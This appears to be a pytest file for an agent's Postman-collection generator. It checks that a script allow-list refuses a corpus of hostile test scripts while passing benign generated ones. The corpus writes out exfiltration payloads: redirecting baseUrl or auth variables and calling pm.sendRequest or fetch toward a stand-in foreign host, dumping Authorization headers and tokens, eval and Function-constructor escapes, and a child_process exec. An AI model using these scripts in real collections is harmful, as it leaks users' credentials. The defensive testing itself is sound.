"""The script allow-list against hostile scripts (every class of issue 14, several variants
each) and against everything our generators write (no false refusals).

The attacker's address is built at run time; no finding may quote it.
"""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import pytest

from agent.boundary.outbound.policy import check_collection_scripts, check_item
from agent.boundary.outbound.protected import scope_of
from agent.generate.postman import leaves
from agent.testing.gullible import benign_item

PORT = random.Random().randrange(20000, 60000)
SINK = "http:" + "/" + "/127.0.0." + "2:" + str(PORT)  # another loopback address: "a foreign host"
ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "agent" / "examples" / "demo"


def _b64(text: str) -> str:
    import base64

    return base64.b64encode(text.encode()).decode()


def _hostile() -> dict[str, str]:
    """name -> script; names start with the class they belong to."""
    sink, rev = json.dumps(SINK), json.dumps(SINK[::-1])
    half = len(SINK) // 2
    a, b = json.dumps(SINK[:half]), json.dumps(SINK[half:])
    set_base = "pm.collectionVariables.set('baseUrl', {});"
    return {
        # 1. set baseUrl (or a variable a request's host, header or auth uses), however built
        "base-literal": set_base.format(sink),
        "base-concat": set_base.format(f"{a} + {b}"),
        "base-template": set_base.format(f"`${{{a}}}${{{b}}}`"),
        "base-join": set_base.format(f"[{a}, {b}].join('')"),
        "base-atob": set_base.format(f"atob('{_b64(SINK)}')"),
        "base-string-raw": set_base.format(f"String.raw`{SINK}`"),
        "base-reversed": set_base.format(f"{rev}.split('').reverse().join('')"),
        "base-name-concat": f"pm.collectionVariables.set('base' + 'Url', {sink});",
        "base-name-template": f"pm.collectionVariables.set(`baseUrl`, {sink});",
        "base-name-spaced": f"pm.collectionVariables.set(' baseUrl ', {sink});",
        "base-bracket": f"pm.collectionVariables['set']('baseUrl', {sink});",
        "base-bracket-built": f"pm.collectionVariables['s' + 'et']('baseUrl', {sink});",
        "base-alias": f"const v = pm.collectionVariables; v.set('baseUrl', {sink});",
        "base-destructure": f"const {{ set }} = pm.collectionVariables; set('baseUrl', {sink});",
        "base-optional": f"pm.collectionVariables?.set('baseUrl', {sink});",
        "base-comma": f"(0, pm.collectionVariables.set)('baseUrl', {sink});",
        "base-variables": f"pm.variables.set('baseUrl', {sink});",
        "base-environment": f"pm.environment.set('baseUrl', {sink});",
        "base-globals": f"pm.globals.set('baseUrl', {sink});",
        "base-unset": "pm.collectionVariables.unset('baseUrl');",
        "base-header-var": f"pm.collectionVariables.set('tenantHost', {sink});",
        "base-auth-var": "pm.collectionVariables.set('tok', pm.response.json().t);",
        # 2. pm.sendRequest, to any host
        "send-literal": f"pm.sendRequest({sink});",
        "send-base-url": "pm.sendRequest('{{baseUrl}}/x', () => {});",
        "send-computed": f"pm['send' + 'Request']({sink});",
        "send-destructure": f"const {{ sendRequest }} = pm; sendRequest({sink});",
        "send-alias": f"const p = pm; p.sendRequest({sink});",
        "send-optional": f"pm?.sendRequest({sink});",
        "send-comma": f"(0, pm.sendRequest)({sink});",
        "send-array": f"[pm][0].sendRequest({sink});",
        "send-call": f"pm.sendRequest.call(pm, {sink});",
        "send-reflect": f"Reflect.apply(pm.sendRequest, pm, [{sink}]);",
        "send-globalthis": f"globalThis.pm.sendRequest({sink});",
        "send-test-chain": f"pm.test('x', () => {{}}).sendRequest({sink});",
        "send-test-value": f"const q = [1].map(() => pm.test('x', () => {{}}))[0]; q.sendRequest({sink});",
        # 3. reading the outgoing request (headers, auth, whole) into a name or the console
        "req-headers-name": "pm.test(pm.request.headers.get('Authorization'), () => {});",
        "req-get-headers": "pm.test(JSON.stringify(pm.request.getHeaders()), () => {});",
        "req-to-json": "pm.test(JSON.stringify(pm.request.toJSON()), () => {});",
        "req-to-object": "pm.test(JSON.stringify(pm.request.headers.toObject()), () => {});",
        "req-whole": "pm.test(String(pm.request), () => {});",
        "req-template": "pm.test(`${pm.request.headers}`, () => {});",
        "req-auth": "pm.test(JSON.stringify(pm.request.auth), () => {});",
        "req-body": "pm.test(pm.request.body.raw, () => {});",
        "req-destructure": "const { headers } = pm.request; pm.test(headers.toString(), () => {});",
        "req-bracket": "pm.test(pm.request['head' + 'ers'].toString(), () => {});",
        "req-console": "console.log(pm.request.headers);",
        "req-secret-var": "pm.test(pm.variables.get('accessToken'), () => {});",
        "req-replace-in": "pm.test(pm.variables.replaceIn('{{accessToken}}'), () => {});",
        "req-env-dump": "pm.test(JSON.stringify(pm.environment.toObject()), () => {});",
        # 4. eval and the Function constructor, however reached
        "eval-this": "(function () { return this; })().eval('1');",
        "eval-indirect": "(0, eval)('1');",
        "eval-globalthis": "globalThis.eval('1');",
        "eval-bracket": "globalThis['ev' + 'al']('1');",
        "fn-computed": "const c = 'constr' + 'uctor'; (function () {})[c]('return 1')();",
        "fn-literal-key": "(function () {})['constructor']('return 1')();",
        "fn-chain": "[].constructor.constructor('return 1')();",
        "fn-string": "''['constructor']['constructor']('return 1')();",
        "fn-proto": "({}).__proto__.constructor.constructor('return 1')();",
        "fn-getprototypeof": "Object.getPrototypeOf(function () {}).constructor('return 1')();",
        "fn-reflect": "Reflect.construct(Function, ['return 1'])();",
        "fn-new": "new Function('return 1')();",
        "fn-new-computed": "new (function () {})['constr' + 'uctor']('return 1')();",
        "fn-arguments": "(function () { return arguments.callee.constructor('return 1')(); })();",
        "fn-tagged": "Function`return 1```;",
        "fn-unicode": "(function () {})['\\u0063onstructor']('return 1')();",
        "fn-reversed": "const k = 'rotcurtsnoc'.split('').reverse().join(''); ({})[k][k]('return 1')();",
        "fn-loop-key": "const o = {}; for (const k in o) { o[k]('x'); }",
        "fn-assert-satisfy": "pm.expect({}).to.have.property('constructor')"
        ".that.satisfy(F => F('return 1')());",
        "fn-assert-catch": "try { pm.expect({}).to.equal(1); } catch (e) { e.actual.constructor('x')(); }",
        "fn-assert-store": "const a = pm.expect({}).to.have.property('constructor'); a._obj('x')();",
        "fn-getter": "const o = { get x() { return 1; } }; o.x;",
        "fn-proto-key": "const o = { __proto__: null }; o.x = 1;",
        "fn-symbol": "const s = Symbol.for('x'); ({})[s];",
        "fn-async": "(async function () {}).constructor('return 1')();",
        "fn-bind": "const f = function () {}; f.bind(null)();",
        # 5. everything else a test has no need of
        "misc-with": f"with (pm) {{ sendRequest({sink}); }}",
        "misc-label": "outer: for (;;) { break outer; }",
        "misc-require": "require('child_process').execSync('id');",
        "misc-import": "import('fs');",
        "misc-timer": "setTimeout('pm.sendRequest(1)', 1);",
        "misc-timer-fn": "setTimeout(function () {}, 1);",
        "misc-fetch": f"fetch({sink});",
        "misc-xhr": "new XMLHttpRequest();",
        "misc-process": "process.env;",
        "misc-this": "this.pm;",
        "misc-class": "class A {} new A();",
        "misc-shadow": "const JSON = { parse: function () {} };",
        "misc-global-assign": "pm = {};",
        "misc-cookies": "pm.cookies.jar().getAll('x', () => {});",
        "misc-vault": "pm.vault.get('x');",
        "misc-execution": "pm.execution.setNextRequest(null);",
        "misc-url-update": f"pm.request.url.update({sink});",
        "misc-url-query": "pm.test(pm.request.url.toString(), () => {});",
        "misc-url-query-params": "pm.test(String(pm.request.url.query), () => {});",
        "misc-header-add": "pm.request.headers.add({ key: 'X', value: 'y' });",
    }


# The requests around the hostile scripts: a header variable and an auth variable to protect.
def _item(script: str) -> dict[str, Any]:
    return {
        "id": "pw-hostile",
        "name": "GET /pets",
        "request": {
            "method": "GET",
            "url": {
                "raw": "{{baseUrl}}/pets/{{petId}}",
                "host": ["{{baseUrl}}"],
                "path": ["pets", "{{petId}}"],
            },
            "header": [{"key": "X-Forwarded-Host", "value": "{{tenantHost}}"}],
            "auth": {"type": "bearer", "bearer": [{"key": "token", "value": "{{tok}}"}]},
        },
        "event": [{"listen": "test", "script": {"type": "text/javascript", "exec": script.splitlines()}}],
    }


HOSTILE = _hostile()


def test_the_corpus_covers_every_class_with_several_variants() -> None:
    classes = {name.split("-")[0] for name in HOSTILE}
    assert classes == {"base", "send", "req", "eval", "fn", "misc"}
    assert len(HOSTILE) >= 35
    assert all(sum(n.startswith(c + "-") for n in HOSTILE) >= 3 for c in classes)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_script_is_refused(name: str) -> None:
    item = _item(HOSTILE[name])
    errors = [f for f in check_item(item) if f.severity == "error" and f.code.startswith("script-")]
    assert errors, name
    assert all(SINK not in f.message and SINK not in (f.location or "") for f in errors)
    collection = {"info": {"name": "c"}, "item": [item]}
    assert check_collection_scripts(collection)


def test_a_variable_used_in_another_items_host_is_protected_collection_wide() -> None:
    setter = _item("pm.collectionVariables.set('region', pm.response.json().region);")
    assert check_item(setter) == []  # alone, 'region' is only data
    user = _item("pm.test('x', () => {});")
    user["request"]["url"] = {"raw": "https://{{region}}.api.example/pets"}
    codes = {f.code for f in check_collection_scripts({"item": [setter, user]})}
    assert codes == {"script-protected-variable"}
    assert "region" in scope_of({"item": [setter, user]}).protected


# --- what our generators write must pass ---------------------------------------------------

BENIGN_LLM = [
    "pm.test('returns the created pet', function () {\n"
    "    const pet = pm.response.json();\n"
    "    pm.expect(pet).to.be.an('object');\n"
    "    pm.expect(pet.name).to.eql('Rex');\n"
    "    pm.collectionVariables.set('petId', pet.id);\n"
    "});",
    "const jsonData = pm.response.json();\n"
    "pm.test('every pet has an id', () => {\n"
    "    jsonData.forEach((pet) => pm.expect(pet).to.have.property('id'));\n"
    "    pm.expect(jsonData.length).to.be.at.most(100);\n"
    "});",
    "pm.test('status is 4XX', function () {\n"
    "    pm.expect(pm.response.code).to.be.within(400, 499);\n"
    "    pm.expect(pm.response.json()).to.have.property('message');\n"
    "});",
    "pm.test('the path is right', () => {\n"
    "    pm.expect(pm.request.url.getPath()).to.include('/pets/' + pm.collectionVariables.get('petId'));\n"
    "    pm.expect(pm.request.method).to.equal('DELETE');\n"
    "});",
    "const body = JSON.parse(pm.response.text());\n"
    "const names = body.items.map(function (i) { return i.name.toLowerCase(); });\n"
    "pm.test('sorted', function () { pm.expect(names).to.eql(names.slice().sort()); });",
    "pm.test('dates are ISO', () => {\n"
    "    const { created, updated = null } = pm.response.json();\n"
    "    pm.expect(new Date(created).toISOString()).to.be.a('string');\n"
    "    pm.expect(updated === null || !isNaN(Date.parse(updated))).to.be.true;\n"
    "});",
    "pm.test('page size', () => {\n"
    "    const page = pm.response.json();\n"
    "    for (let i = 0; i < page.items.length; i++) {\n"
    "        pm.expect(page.items[i].id).to.be.a('number');\n"
    "    }\n"
    "    pm.expect(Object.keys(page)).to.include.members(['items', 'next']);\n"
    "});",
]


@pytest.mark.parametrize("index", range(len(BENIGN_LLM)))
def test_benign_llm_style_scripts_pass(index: int) -> None:
    assert check_item(_item(BENIGN_LLM[index])) == []


def test_the_gullible_models_benign_answers_pass() -> None:
    for status in ("200", "201", "4XX", "404"):
        task = {"operation": "GET /pets", "method": "GET", "path": "/pets", "expected_status": status}
        assert check_item(benign_item(task)) == []


def _generate(tmp_path: Path, *args: str) -> dict[str, Any]:
    from agent.cli.main import main

    out = tmp_path / "out.json"
    with pytest.raises(SystemExit) as done:
        main(["generate", *args, "-o", str(out)])
    assert done.value.code in (0, None)
    data: dict[str, Any] = json.loads(out.read_text())
    return data


@pytest.mark.parametrize("mode", ["full-v1", "full-v2", "diff-with-logs"])
def test_every_script_generated_for_the_demo_passes(
    mode: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    specs = DEMO / "specs"
    args = {
        "full-v1": ["--spec", str(specs / "petstore-v1.yaml")],
        "full-v2": ["--spec", str(specs / "petstore-v2.yaml")],
        "diff-with-logs": [
            "--base",
            str(specs / "petstore-v1.yaml"),
            "--spec",
            str(specs / "petstore-v2.yaml"),
            "--logs",
            str(DEMO / "logs"),
        ],
    }[mode]
    collection = _generate(tmp_path, *args)
    items = [item for _, item in leaves(collection["item"])]
    assert items and all(item.get("event") for item in items)
    assert check_collection_scripts(collection) == []
    assert [f for item in items for f in check_item(item) if f.severity == "error"] == []
    capsys.readouterr()


def test_validate_judges_scripts_against_the_whole_collection(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from agent.cli.main import main

    collection = _generate(tmp_path, "--spec", str(DEMO / "specs" / "petstore-v2.yaml"), "--folders", "none")
    at = [n for n, item in enumerate(collection["item"]) if "request" in item]  # past the pw-setup folder
    first, second = collection["item"][at[0]], collection["item"][at[1]]
    first["event"][0]["script"]["exec"].append("pm.collectionVariables.set('region', pm.response.json().id);")
    second["request"]["header"].append({"key": "X-Region", "value": "{{region}}"})
    path = tmp_path / "c.json"
    path.write_text(json.dumps(collection))
    capsys.readouterr()
    spec = str(DEMO / "specs" / "petstore-v2.yaml")
    with pytest.raises(SystemExit) as done:
        main(["validate", str(path), "--spec", spec, "--format", "json"])
    findings = json.loads(capsys.readouterr().out)
    assert done.value.code == 1
    assert [(f["code"], f["location"].split("/event/")[0]) for f in findings] == [
        ("script-protected-variable", f"/item/{at[0]}")
    ]
